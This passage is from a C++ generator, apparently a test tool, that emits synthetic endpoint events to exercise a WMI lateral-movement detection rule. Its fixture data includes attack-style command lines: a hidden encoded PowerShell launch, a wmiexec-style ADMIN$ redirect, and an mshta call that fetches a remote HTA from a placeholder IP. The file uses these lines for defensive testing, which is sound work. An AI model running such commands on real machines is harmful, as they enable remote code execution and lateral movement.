// eqlc_gen_events: a deterministic synthetic ECS event stream (Elastic Defend-like process, network and file
// events, some Sysmon process events) with planted WMI lateral-movement pairs and decoys, for the end-to-end
// throughput runner (bench/run-throughput) and for checking the WMI rule's count on a large input.
//
//   eqlc_gen_events --events 1000000 --hosts 200 --seed 42 --out events.ndjson [--truth truth.json]
//
// The same arguments always give the same bytes (own PRNG, no std distributions, no clock).
//
// Ground truth for rules/wmi_incoming_lateral_movement.eql (sequence by host.id, maxspan 20s, stage 1 an inbound
// port-135 connection accepted by svchost.exe from a non-loopback address, stage 2 a process started by
// WmiPrvSE.exe that passes the rule's exclusions):
//   * Background events never match either stage (no inbound port-135 svchost connections; the rare WmiPrvSE.exe
//     children of the background are all excluded ones), so only scenarios can produce alerts.
//   * Each scenario reserves its host(s) from 21 s before its first event to 21 s after its last one: no other
//     scenario's events land there, so a scenario's count does not depend on its neighbours, and no partial
//     sequence left by one scenario is young enough to be completed by the next.
//   * Planted scenarios give exactly one alert each (also the variants with two children or two connections,
//     under "newest partial per key and stage" and "a completed partial is gone"); decoys give none.
//   * The generator also runs an independent model of the rule over the events it writes (its own stage
//     predicates, a per-host newest stage-1 time, maxspan from the stage-1 event) and refuses to finish if the
//     model disagrees with the planted count.
// Timestamps are ISO-8601 with milliseconds and strictly increasing (1-9 ms apart), so ties never arise.
#include <algorithm>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <string_view>
#include <vector>

namespace {

// ---- Deterministic randomness ---------------------------------------------------------------------------------

class Rng {
public:
    explicit Rng(uint64_t seed) : state_(seed * 0x9E3779B97F4A7C15ull + 0x632BE59BD9B4E019ull) {}
    uint64_t next() {  // splitmix64
        uint64_t z = (state_ += 0x9E3779B97F4A7C15ull);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
        return z ^ (z >> 31);
    }
    uint64_t below(uint64_t n) { return n == 0 ? 0 : next() % n; }  // the bias is irrelevant here
    int64_t range(int64_t lo, int64_t hi) {
        return lo + static_cast<int64_t>(below(static_cast<uint64_t>(hi - lo + 1)));
    }
    bool chance(unsigned percent) { return below(100) < percent; }
    template <class T, size_t N>
    const T& pick(const std::array<T, N>& a) {
        return a[below(N)];
    }

private:
    uint64_t state_;
};

// ---- Static vocabulary ----------------------------------------------------------------------------------------

struct Program {
    std::string_view name;
    std::string_view executable;
    std::string_view args;  // after argv[0], space separated ("" for none)
};

constexpr std::array<Program, 14> kWindowsPrograms{{
    {"svchost.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule"},
    {"cmd.exe", "C:\\Windows\\System32\\cmd.exe", "/c ipconfig /all"},
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-NoProfile -File C:\\ops\\inventory.ps1"},
    {"explorer.exe", "C:\\Windows\\explorer.exe", ""},
    {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer --lang=en-US"},
    {"msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "--single-argument"},
    {"conhost.exe", "C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1"},
    {"taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", ""},
    {"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "shell32.dll,Control_RunDLL"},
    {"OneDrive.exe", "C:\\Users\\Public\\OneDrive\\OneDrive.exe", "/background"},
    {"msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", "/V"},
    {"git.exe", "C:\\Program Files\\Git\\cmd\\git.exe", "fetch --all"},
    {"Teams.exe", "C:\\Users\\Public\\Teams\\current\\Teams.exe", "--system-initiated"},
    {"SearchIndexer.exe", "C:\\Windows\\System32\\SearchIndexer.exe", "/Embedding"},
}};

constexpr std::array<Program, 6> kWindowsParents{{
    {"explorer.exe", "C:\\Windows\\explorer.exe", ""},
    {"services.exe", "C:\\Windows\\System32\\services.exe", ""},
    {"svchost.exe", "C:\\Windows\\System32\\svchost.exe", ""},
    {"cmd.exe", "C:\\Windows\\System32\\cmd.exe", ""},
    {"userinit.exe", "C:\\Windows\\System32\\userinit.exe", ""},
    {"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", ""},
}};

constexpr std::array<Program, 8> kUnixPrograms{{
    {"bash", "/usr/bin/bash", "-c uptime"},
    {"sshd", "/usr/sbin/sshd", "-D -R"},
    {"python3", "/usr/bin/python3", "/opt/app/worker.py --queue default"},
    {"curl", "/usr/bin/curl", "-s https://repo.example.com/health"},
    {"systemd", "/usr/lib/systemd/systemd", "--user"},
    {"cron", "/usr/sbin/cron", "-f"},
    {"java", "/usr/lib/jvm/java-17/bin/java", "-Xmx2g -jar /opt/app/service.jar"},
    {"node", "/usr/bin/node", "/srv/web/server.js"},
}};

// Children WmiPrvSE.exe starts in an attack (and which pass the rule's exclusions).
constexpr std::array<Program, 7> kWmiChildren{{
    {"cmd.exe", "C:\\Windows\\System32\\cmd.exe", "/Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1714557600.12 2>&1"},
    {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "-nop -w hidden -enc SQBFAFgA"},
    {"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\Temp\\x.dll,Start"},
    {"mshta.exe", "C:\\Windows\\System32\\mshta.exe", "http://198.51.100.7/a.hta"},
    {"cscript.exe", "C:\\Windows\\System32\\cscript.exe", "//nologo C:\\Windows\\Temp\\s.vbs"},
    {"msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", "/i C:\\Windows\\Temp\\p.msi /quiet"},
    {"appcmd.exe", "C:\\Windows\\System32\\inetsrv\\appcmd.exe", "list apppool"},
}};

// Children the rule excludes by executable, or by executable and argument.
constexpr std::array<Program, 8> kExcludedWmiChildren{{
    {"hpsum_swdiscovery.exe", "C:\\Program Files\\HPWBEM\\Tools\\hpsum_swdiscovery.exe", "/scan"},
    {"Ccm32BitLauncher.exe", "C:\\Windows\\CCM\\Ccm32BitLauncher.exe", "-policy"},
    {"mofcomp.exe", "C:\\Windows\\System32\\wbem\\mofcomp.exe", "C:\\Windows\\System32\\wbem\\cimwin32.mof"},
    {"csc.exe", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", "/noconfig /fullpaths @x.cmdline"},
    {"powercfg.exe", "D:\\Windows\\System32\\powercfg.exe", "/energy"},
    {"msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", "/x {A1B2} REBOOT=ReallySuppress /qn"},
    {"msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", "/x {C3D4} reboot=reallysuppress /qn"},
    {"appcmd.exe", "C:\\Windows\\System32\\inetsrv\\appcmd.exe", "uninstall module X"},
}};

constexpr std::array<std::string_view, 5> kUserNames{"alice", "bob", "carol", "dave", "erin"};
constexpr std::array<std::string_view, 3> kServiceSids{"S-1-5-18", "S-1-5-19", "S-1-5-20"};
constexpr std::array<int, 12> kPorts{443, 80, 53, 445, 3389, 5985, 88, 389, 139, 8080, 22, 49667};
constexpr std::array<std::string_view, 6> kExtensions{"txt", "docx", "tmp", "log", "dll", "pf"};
constexpr std::array<std::string_view, 4> kIntegrity{"medium", "high", "medium", "low"};

// ---- Events ---------------------------------------------------------------------------------------------------

enum class Kind : uint8_t { process_start, process_end, network, file, sysmon_process };

struct Host {
    std::string id;
    std::string name;
    std::string ip;
    std::string_view os_type;  // windows, linux, macos
};

struct Event {
    Kind kind = Kind::process_start;
    int64_t ts = 0;  // epoch ms
    uint32_t host = 0;
    std::string_view action;
    // process
    std::string_view pname, pexe, pargs;
    std::string_view parent_name, parent_exe;
    std::string parent_name_owned;  // case variants
    std::string pname_owned;
    std::string_view integrity;  // "" = absent
    std::string user_id;
    std::string_view user_name;
    std::string_view dataset;  // event.dataset / data_stream.dataset
    uint32_t pid = 0, ppid = 0;
    // network
    std::string src_ip, dst_ip;
    int src_port = 0, dst_port = 0;
    std::string direction;
    // file
    std::string_view extension;
    uint32_t file_no = 0;
};

bool iequals(std::string_view a, std::string_view b) {
    if (a.size() != b.size()) return false;
    for (size_t i = 0; i < a.size(); ++i) {
        auto lower = [](char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c; };
        if (lower(a[i]) != lower(b[i])) return false;
    }
    return true;
}

// Case-insensitive glob with '*' and '?' (EQL's `:` with wildcards).
bool iglob(std::string_view pattern, std::string_view text) {
    auto lower = [](char c) { return c >= 'A' && c <= 'Z' ? static_cast<char>(c + 32) : c; };
    size_t p = 0, t = 0, star = std::string_view::npos, mark = 0;
    while (t < text.size()) {
        if (p < pattern.size() && (pattern[p] == '?' || lower(pattern[p]) == lower(text[t]))) {
            ++p, ++t;
        } else if (p < pattern.size() && pattern[p] == '*') {
            star = p++;
            mark = t;
        } else if (star != std::string_view::npos) {
            p = star + 1;
            t = ++mark;
        } else {
            return false;
        }
    }
    while (p < pattern.size() && pattern[p] == '*') ++p;
    return p == pattern.size();
}

// ---- The reference model of the rule (independent of eqlc) ------------------------------------------------------

std::string_view name_of(const Event& e) { return e.pname_owned.empty() ? e.pname : std::string_view(e.pname_owned); }
std::string_view parent_of(const Event& e) {
    return e.parent_name_owned.empty() ? e.parent_name : std::string_view(e.parent_name_owned);
}

bool stage1(const Event& e, const std::vector<Host>& hosts) {
    return e.kind == Kind::network && hosts[e.host].os_type == "windows" && iequals(name_of(e), "svchost.exe") &&
           (iequals(e.direction, "incoming") || iequals(e.direction, "ingress")) && e.dst_port == 135 &&
           e.src_ip != "127.0.0.1" && e.src_ip != "::1";
}

bool stage2(const Event& e, const std::vector<Host>& hosts) {
    if (e.kind != Kind::process_start && e.kind != Kind::sysmon_process) return false;
    if (hosts[e.host].os_type != "windows" || !iequals(parent_of(e), "WmiPrvSE.exe")) return false;
    if (iequals(e.integrity, "System")) return false;  // Ext.token.integrity_level_name or IntegrityLevel
    const bool service =
        iequals(e.user_id, "S-1-5-18") || iequals(e.user_id, "S-1-5-19") || iequals(e.user_id, "S-1-5-20");
    const bool sysmon = iequals(e.dataset, "windows.sysmon_operational") || iequals(e.dataset, "windows.sysmon");
    if (service && !sysmon) return false;
    for (std::string_view pattern :
         {"?:\\Program Files\\HPWBEM\\Tools\\hpsum_swdiscovery.exe", "?:\\Windows\\CCM\\Ccm32BitLauncher.exe",
          "?:\\Windows\\System32\\wbem\\mofcomp.exe", "?:\\Windows\\Microsoft.NET\\Framework*\\csc.exe",
          "?:\\Windows\\System32\\powercfg.exe"}) {
        if (iglob(pattern, e.pexe)) return false;
    }
    auto has_arg = [&](std::string_view wanted) {
        std::string_view rest = e.pargs;
        while (!rest.empty()) {
            const size_t sp = rest.find(' ');
            if (iequals(rest.substr(0, sp), wanted)) return true;
            if (sp == std::string_view::npos) break;
            rest.remove_prefix(sp + 1);
        }
        return iequals(e.pexe, wanted);  // argv[0]
    };
    if (iglob("?:\\Windows\\System32\\msiexec.exe", e.pexe) && has_arg("REBOOT=ReallySuppress")) return false;
    if (iglob("?:\\Windows\\System32\\inetsrv\\appcmd.exe", e.pexe) && has_arg("uninstall")) return false;
    return true;
}

std::string escape(std::string_view s) {
    std::string out;
    out.reserve(s.size() + 8);
    for (char c : s) {
        if (c == '\\' || c == '"') out.push_back('\\');
        out.push_back(c);
    }
    return out;
}

// ---- JSON output ----------------------------------------------------------------------------------------------

class Out {
public:
    explicit Out(std::FILE* f) : f_(f) { buf_.reserve(kFlush + 8192); }
    ~Out() { flush(); }
    void raw(std::string_view s) { buf_.append(s); }
    void ch(char c) { buf_.push_back(c); }
    void str(std::string_view s) {  // a JSON string (the vocabulary only needs \\ and \")
        buf_.push_back('"');
        for (char c : s) {
            if (c == '\\' || c == '"') buf_.push_back('\\');
            buf_.push_back(c);
        }
        buf_.push_back('"');
    }
    void num(int64_t v) {
        char tmp[24];
        const int n = std::snprintf(tmp, sizeof tmp, "%lld", static_cast<long long>(v));
        buf_.append(tmp, static_cast<size_t>(n));
    }
    void key(std::string_view k) {  // "k":
        buf_.push_back('"');
        buf_.append(k);
        buf_.append("\":");
    }
    void end_line() {
        buf_.push_back('\n');
        ++lines_;
        if (buf_.size() >= kFlush) flush();
    }
    void flush() {
        if (!buf_.empty() && std::fwrite(buf_.data(), 1, buf_.size(), f_) != buf_.size()) {
            std::fprintf(stderr, "eqlc_gen_events: write failed: %s\n", std::strerror(errno));
            std::exit(1);
        }
        written_ += buf_.size();
        buf_.clear();
    }
    uint64_t written() const { return written_ + buf_.size(); }

private:
    static constexpr size_t kFlush = 4u << 20;
    std::FILE* f_;
    std::string buf_;
    uint64_t lines_ = 0;
    uint64_t written_ = 0;
};

std::string iso_ms(int64_t ms) {
    const int64_t days = ms / 86'400'000;
    const int64_t rem = ms % 86'400'000;
    // civil_from_days (H. Hinnant)
    int64_t z = days + 719468;
    const int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    const auto doe = static_cast<unsigned>(z - era * 146097);
    const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const unsigned mp = (5 * doy + 2) / 153;
    const unsigned d = doy - (153 * mp + 2) / 5 + 1;
    const unsigned m = mp < 10 ? mp + 3 : mp - 9;
    const int64_t y = static_cast<int64_t>(yoe) + era * 400 + (m <= 2 ? 1 : 0);
    char buf[64];
    std::snprintf(buf, sizeof buf, "%04lld-%02u-%02uT%02lld:%02lld:%02lld.%03lldZ", static_cast<long long>(y), m, d,
                  static_cast<long long>(rem / 3'600'000), static_cast<long long>(rem / 60'000 % 60),
                  static_cast<long long>(rem / 1000 % 60), static_cast<long long>(rem % 1000));
    return buf;
}

void write_args(Out& o, const Event& e) {
    o.str(e.pexe);
    std::string_view rest = e.pargs;
    while (!rest.empty()) {
        const size_t sp = rest.find(' ');
        o.ch(',');
        o.str(rest.substr(0, sp));
        if (sp == std::string_view::npos) break;
        rest.remove_prefix(sp + 1);
    }
}

void write_event(Out& o, const Event& e, const std::vector<Host>& hosts) {
    const Host& h = hosts[e.host];
    const bool sysmon = e.kind == Kind::sysmon_process;
    o.raw("{\"@timestamp\":\"");
    o.raw(iso_ms(e.ts));
    o.raw("\",\"data_stream\":{\"dataset\":");
    o.str(e.dataset);
    o.raw("},\"event\":{\"action\":");
    o.str(e.action);
    o.raw(",\"category\":[");
    switch (e.kind) {
        case Kind::process_start:
        case Kind::process_end:
        case Kind::sysmon_process:
            o.raw("\"process\"],\"type\":[");
            o.raw(e.kind == Kind::process_end ? "\"end\"]" : "\"start\"]");
            break;
        case Kind::network: o.raw("\"network\"],\"type\":[\"start\"]"); break;
        case Kind::file: o.raw("\"file\"],\"type\":[\"creation\"]"); break;
    }
    if (e.kind != Kind::network && e.kind != Kind::file) {  // the rule reads event.dataset of process events
        o.raw(",\"dataset\":");
        o.str(e.dataset);
    }
    o.raw("},\"host\":{\"id\":");
    o.str(h.id);
    o.raw(",\"name\":");
    o.str(h.name);
    o.raw(",\"os\":{\"type\":");
    o.str(h.os_type);
    o.raw("}}");

    o.raw(",\"process\":{\"pid\":");
    o.num(e.pid);
    o.raw(",\"name\":");
    o.str(name_of(e));
    o.raw(",\"executable\":");
    o.str(e.pexe);
    if (e.kind == Kind::process_start || e.kind == Kind::sysmon_process) {
        o.raw(",\"args\":[");
        write_args(o, e);
        o.raw("],\"command_line\":\"");
        std::string cl(e.pexe);
        if (!e.pargs.empty()) cl.append(" ").append(e.pargs);
        o.raw(escape(cl));
        o.raw("\",\"parent\":{\"pid\":");
        o.num(e.ppid);
        o.raw(",\"name\":");
        o.str(parent_of(e));
        o.ch('}');
        if (!sysmon && !e.integrity.empty()) {
            o.raw(",\"Ext\":{\"token\":{\"integrity_level_name\":");
            o.str(e.integrity);
            o.raw("}}");
        }
    }
    o.ch('}');

    if (e.kind == Kind::network) {
        o.raw(",\"source\":{\"ip\":");
        o.str(e.src_ip);
        o.raw(",\"port\":");
        o.num(e.src_port);
        o.raw("},\"destination\":{\"ip\":");
        o.str(e.dst_ip);
        o.raw(",\"port\":");
        o.num(e.dst_port);
        o.raw("},\"network\":{\"direction\":");
        o.str(e.direction);
        o.ch('}');
    } else if (e.kind == Kind::file) {
        o.raw(",\"file\":{\"path\":\"C:\\\\Users\\\\Public\\\\report-");
        o.num(e.file_no);
        o.ch('.');
        o.raw(e.extension);
        o.raw("\",\"extension\":");
        o.str(e.extension);
        o.raw(",\"size\":");
        o.num(static_cast<int64_t>(e.file_no % 65536) * 17);
        o.ch('}');
    }
    if (sysmon) {
        o.raw(",\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":\"1\",\"event_data\":{");
        o.raw("\"IntegrityLevel\":");
        o.str(e.integrity.empty() ? std::string_view("High") : e.integrity);
        o.raw("}}");
    }
    o.raw(",\"user\":{\"id\":");
    o.str(e.user_id);
    o.raw(",\"name\":");
    o.str(e.user_name);
    o.raw("}}");
    o.end_line();
}

// ---- Background events (never match either stage of the rule) ---------------------------------------------------

constexpr std::string_view kAdminSidPrefix = "S-1-5-21-1004336348-";

std::string user_sid(Rng& rng, std::string_view& name) {
    const uint64_t u = rng.below(kUserNames.size());
    name = kUserNames[u];
    return std::string(kAdminSidPrefix) + std::to_string(1001 + u);
}

std::string random_ipv4(Rng& rng, int first) {
    return std::to_string(first) + "." + std::to_string(rng.below(256)) + "." + std::to_string(rng.below(256)) + "." +
           std::to_string(1 + rng.below(254));
}

void fill_background(Event& e, Rng& rng, const std::vector<Host>& hosts, uint64_t serial) {
    e.host = static_cast<uint32_t>(rng.below(hosts.size()));
    const Host& h = hosts[e.host];
    const bool windows = h.os_type == "windows";
    const uint64_t roll = rng.below(100);
    e.pid = static_cast<uint32_t>(400 + rng.below(60000));
    e.ppid = static_cast<uint32_t>(4 + rng.below(20000));
    e.user_id = user_sid(rng, e.user_name);
    if (!windows) {
        e.user_id = std::to_string(1000 + rng.below(5));
        const Program& p = rng.pick(kUnixPrograms);
        e.pname = p.name, e.pexe = p.executable, e.pargs = p.args;
        e.parent_name = "systemd", e.parent_exe = "/usr/lib/systemd/systemd";
    }
    if (roll < 17 || (roll < 19 && !windows)) {
        e.kind = Kind::process_start;
        e.action = windows ? "start" : "exec";
        e.dataset = "endpoint.events.process";
        if (windows) {
            const Program& p = rng.pick(kWindowsPrograms);
            const Program& parent = rng.pick(kWindowsParents);
            e.pname = p.name, e.pexe = p.executable, e.pargs = p.args;
            e.parent_name = parent.name, e.parent_exe = parent.executable;
            e.integrity = rng.pick(kIntegrity);
            if (rng.below(1000) < 3) {
                // WMI's own housekeeping: an excluded child, or one running as System. Never an alert.
                e.parent_name = "WmiPrvSE.exe", e.parent_exe = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
                if (rng.chance(50)) {
                    const Program& x = rng.pick(kExcludedWmiChildren);
                    e.pname = x.name, e.pexe = x.executable, e.pargs = x.args;
                } else {
                    e.integrity = "System";
                }
            }
        }
    } else if (roll < 19) {
        // Sysmon process creation (Windows only), from the winlogbeat-style integration.
        e.kind = Kind::sysmon_process;
        e.action = "Process Create (rule: ProcessCreate)";
        e.dataset = "windows.sysmon_operational";
        const Program& p = rng.pick(kWindowsPrograms);
        const Program& parent = rng.pick(kWindowsParents);
        e.pname = p.name, e.pexe = p.executable, e.pargs = p.args;
        e.parent_name = parent.name, e.parent_exe = parent.executable;
        e.integrity = "Medium";
    } else if (roll < 34) {
        e.kind = Kind::process_end;
        e.action = windows ? "end" : "exit";
        e.dataset = "endpoint.events.process";
        if (windows) {
            const Program& p = rng.pick(kWindowsPrograms);
            e.pname = p.name, e.pexe = p.executable, e.pargs = p.args;
        }
    } else if (roll < 79) {
        e.kind = Kind::network;
        e.dataset = "endpoint.events.network";
        if (windows) {
            const Program& p = rng.below(3) == 0 ? kWindowsPrograms[0] : rng.pick(kWindowsPrograms);
            e.pname = p.name, e.pexe = p.executable;
            if (e.pname == "svchost.exe") e.user_id = "S-1-5-18", e.user_name = "SYSTEM";
        }
        const bool incoming = rng.chance(40);
        e.direction = incoming ? "incoming" : "outgoing";
        e.action = incoming ? "connection_accepted" : "connection_attempted";
        // No background connection uses port 135 inbound; outbound RPC by svchost is normal traffic.
        int port = rng.pick(kPorts);
        if (!incoming && windows && e.pname == "svchost.exe" && rng.chance(5)) port = 135;
        const std::string remote = rng.chance(70) ? random_ipv4(rng, 10) : random_ipv4(rng, 172);
        if (incoming) {
            e.src_ip = remote, e.src_port = static_cast<int>(49152 + rng.below(16000));
            e.dst_ip = h.ip, e.dst_port = port;
        } else {
            e.src_ip = h.ip, e.src_port = static_cast<int>(49152 + rng.below(16000));
            e.dst_ip = remote, e.dst_port = port;
        }
    } else {
        e.kind = Kind::file;
        e.action = "creation";
        e.dataset = "endpoint.events.file";
        e.extension = rng.pick(kExtensions);
        e.file_no = static_cast<uint32_t>(serial % 100000);
        if (windows) {
            const Program& p = rng.pick(kWindowsPrograms);
            e.pname = p.name, e.pexe = p.executable;
        }
    }
}

// ---- Scenarios --------------------------------------------------------------------------------------------------

enum class Scenario : uint8_t {
    // Planted: one alert each.
    pair,             // inbound RPC by svchost, then a WmiPrvSE.exe child within 20 s
    pair_sysmon,      // the child seen by Sysmon, running as S-1-5-18 (the service-account exclusion spares Sysmon)
    two_children,     // two qualifying children: the second finds no partial (the first completed it)
    two_connections,  // two qualifying connections, then a child: the newest partial completes, once
    // Decoys: no alert.
    loopback,          // source.ip 127.0.0.1 or ::1
    outgoing,          // network.direction outgoing/egress
    too_late,          // the child comes more than 20 s after the connection
    excluded_child,    // an excluded executable (or msiexec REBOOT=ReallySuppress, appcmd uninstall)
    system_integrity,  // integrity System (Endpoint or Sysmon spelling)
    service_account,   // user S-1-5-18/19/20 on an Endpoint event
    other_host,        // the child is on another host
    wrong_order,       // the child comes first
    wrong_port,        // inbound to 445, or 135 accepted by another process
    not_a_start,       // the WmiPrvSE.exe child event is a process end
    count_
};
constexpr size_t kScenarioKinds = static_cast<size_t>(Scenario::count_);
constexpr std::array<const char*, kScenarioKinds> kScenarioNames{
    "pair",       "pair_sysmon", "two_children",   "two_connections",  "loopback",
    "outgoing",   "too_late",    "excluded_child", "system_integrity", "service_account",
    "other_host", "wrong_order", "wrong_port",     "not_a_start"};
bool planted(Scenario s) { return s <= Scenario::two_connections; }

struct Planned {
    Event event;
    int64_t offset_ms = 0;  // after the scenario's first event
    int host_slot = 0;      // 0: the scenario's host; 1: a second host (other_host)
};

std::string case_variant(std::string_view s, Rng& rng) {
    std::string out(s);
    switch (rng.below(4)) {
        case 0: break;
        case 1:
            for (char& c : out) c = static_cast<char>(c >= 'a' && c <= 'z' ? c - 32 : c);
            break;
        case 2:
            for (char& c : out) c = static_cast<char>(c >= 'A' && c <= 'Z' ? c + 32 : c);
            break;
        default:
            if (!out.empty() && out[0] >= 'a' && out[0] <= 'z') out[0] = static_cast<char>(out[0] - 32);
    }
    return out;
}

Event connection(Rng& rng) {
    Event e;
    e.kind = Kind::network;
    e.action = "connection_accepted";
    e.dataset = "endpoint.events.network";
    e.pname = "svchost.exe";
    e.pname_owned = case_variant("svchost.exe", rng);
    e.pexe = "C:\\Windows\\System32\\svchost.exe";
    e.user_id = "S-1-5-20", e.user_name = "NETWORK SERVICE";
    e.direction = rng.chance(75) ? "incoming" : "ingress";
    e.src_ip = rng.chance(80) ? random_ipv4(rng, 10) : "fe80::" + std::to_string(1000 + rng.below(8000)) + ":2a";
    e.src_port = static_cast<int>(49152 + rng.below(16000));
    e.dst_port = 135;
    e.pid = static_cast<uint32_t>(600 + rng.below(2000));
    return e;
}

Event wmi_child(Rng& rng) {
    Event e;
    e.kind = Kind::process_start;
    e.action = "start";
    e.dataset = "endpoint.events.process";
    const Program& p = rng.pick(kWmiChildren);
    e.pname = p.name, e.pexe = p.executable, e.pargs = p.args;
    e.parent_name = "WmiPrvSE.exe";
    if (rng.chance(30)) e.parent_name_owned = case_variant("WmiPrvSE.exe", rng);
    e.parent_exe = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    e.integrity = rng.chance(70) ? "high" : "medium";
    e.user_id = std::string(kAdminSidPrefix) + "500", e.user_name = "Administrator";
    e.pid = static_cast<uint32_t>(2000 + rng.below(60000));
    e.ppid = static_cast<uint32_t>(1000 + rng.below(4000));
    return e;
}

std::vector<Planned> plan_scenario(Scenario kind, Rng& rng) {
    std::vector<Planned> out;
    const int64_t gap = rng.range(50, 19'500);  // within the maxspan, clear of its edge
    auto add = [&](Event e, int64_t offset, int slot = 0) { out.push_back(Planned{std::move(e), offset, slot}); };
    switch (kind) {
        case Scenario::pair:
            add(connection(rng), 0);
            add(wmi_child(rng), gap);
            break;
        case Scenario::pair_sysmon: {
            Event child = wmi_child(rng);
            child.kind = Kind::sysmon_process;
            child.action = "Process Create (rule: ProcessCreate)";
            child.dataset = rng.chance(50) ? "windows.sysmon_operational" : "windows.sysmon";
            child.user_id = rng.pick(kServiceSids), child.user_name = "SYSTEM";
            child.integrity = "High";
            add(connection(rng), 0);
            add(std::move(child), gap);
            break;
        }
        case Scenario::two_children:
            add(connection(rng), 0);
            add(wmi_child(rng), gap / 2);
            add(wmi_child(rng), gap);
            break;
        case Scenario::two_connections:
            add(connection(rng), 0);
            add(connection(rng), gap / 2);
            add(wmi_child(rng), gap);
            break;
        case Scenario::loopback: {
            Event c = connection(rng);
            c.src_ip = rng.chance(50) ? "127.0.0.1" : "::1";
            add(std::move(c), 0);
            add(wmi_child(rng), gap);
            break;
        }
        case Scenario::outgoing: {
            Event c = connection(rng);
            c.direction = rng.chance(50) ? "outgoing" : "egress";
            c.action = "connection_attempted";
            add(std::move(c), 0);
            add(wmi_child(rng), gap);
            break;
        }
        case Scenario::too_late:
            add(connection(rng), 0);
            add(wmi_child(rng), rng.range(20'500, 40'000));
            break;
        case Scenario::excluded_child: {
            Event child = wmi_child(rng);
            const Program& x = rng.pick(kExcludedWmiChildren);
            child.pname = x.name, child.pexe = x.executable, child.pargs = x.args;
            add(connection(rng), 0);
            add(std::move(child), gap);
            break;
        }
        case Scenario::system_integrity: {
            Event child = wmi_child(rng);
            if (rng.chance(50)) {
                child.integrity = rng.chance(50) ? "System" : "system";
            } else {
                child.kind = Kind::sysmon_process;
                child.action = "Process Create (rule: ProcessCreate)";
                child.dataset = "windows.sysmon_operational";
                child.integrity = "System";
            }
            add(connection(rng), 0);
            add(std::move(child), gap);
            break;
        }
        case Scenario::service_account: {
            Event child = wmi_child(rng);
            child.user_id = rng.pick(kServiceSids), child.user_name = "SYSTEM";
            add(connection(rng), 0);
            add(std::move(child), gap);
            break;
        }
        case Scenario::other_host:
            add(connection(rng), 0);
            add(wmi_child(rng), gap, 1);
            break;
        case Scenario::wrong_order:
            add(wmi_child(rng), 0);
            add(connection(rng), gap);
            break;
        case Scenario::wrong_port: {
            Event c = connection(rng);
            if (rng.chance(50)) {
                c.dst_port = 445;
            } else {
                c.pname_owned.clear();
                c.pname = "services.exe", c.pexe = "C:\\Windows\\System32\\services.exe";
            }
            add(std::move(c), 0);
            add(wmi_child(rng), gap);
            break;
        }
        case Scenario::not_a_start: {
            Event child = wmi_child(rng);
            child.kind = Kind::process_end;
            child.action = "end";
            add(connection(rng), 0);
            add(std::move(child), gap);
            break;
        }
        case Scenario::count_: break;
    }
    return out;
}

// ---- Command line ---------------------------------------------------------------------------------------------

[[noreturn]] void usage(const char* message) {
    std::fprintf(
        stderr, "eqlc_gen_events: %s\nusage: eqlc_gen_events --events N --hosts H --seed S --out FILE [--truth FILE]\n",
        message);
    std::exit(2);
}

uint64_t parse_count(const char* text, const char* what) {
    char* end = nullptr;
    errno = 0;
    const unsigned long long v = std::strtoull(text, &end, 10);
    if (errno != 0 || end == text || *end != '\0') usage(what);
    return v;
}

}  // namespace

int main(int argc, char** argv) {
    uint64_t events = 1'000'000, host_count = 200, seed = 42;
    std::string out_path, truth_path;
    for (int i = 1; i < argc; ++i) {
        const std::string_view arg = argv[i];
        auto value = [&]() -> const char* {
            if (i + 1 >= argc) usage("missing value");
            return argv[++i];
        };
        if (arg == "--events") {
            events = parse_count(value(), "bad --events");
        } else if (arg == "--hosts") {
            host_count = parse_count(value(), "bad --hosts");
        } else if (arg == "--seed") {
            seed = parse_count(value(), "bad --seed");
        } else if (arg == "--out") {
            out_path = value();
        } else if (arg == "--truth") {
            truth_path = value();
        } else {
            usage("unknown argument");
        }
    }
    if (out_path.empty()) usage("--out is required");
    if (host_count < 2 || host_count > 100000) usage("--hosts must be in 2..100000");

    Rng rng(seed);
    std::vector<Host> hosts(host_count);
    std::vector<uint32_t> windows_hosts;
    for (uint64_t h = 0; h < host_count; ++h) {
        Host& host = hosts[h];
        char id[40];
        std::snprintf(
            id, sizeof id, "%08llx-%04llx-4%03llx-%04llx-%012llx", static_cast<unsigned long long>(rng.next() >> 32),
            static_cast<unsigned long long>(rng.below(0x10000)), static_cast<unsigned long long>(rng.below(0x1000)),
            static_cast<unsigned long long>(0x8000 + rng.below(0x4000)),
            static_cast<unsigned long long>(rng.next() & 0xFFFFFFFFFFFFull));
        host.id = id;
        const uint64_t os = h % 20;
        host.os_type = os < 16 ? "windows" : os < 19 ? "linux" : "macos";
        char name[32];
        std::snprintf(name, sizeof name, "%s-%04llu",
                      os < 16   ? (h % 5 == 0 ? "SRV" : "WS")
                      : os < 19 ? "lnx"
                                : "mac",
                      static_cast<unsigned long long>(h));
        host.name = name;
        host.ip = "10.20." + std::to_string(h / 250) + "." + std::to_string(1 + h % 250);
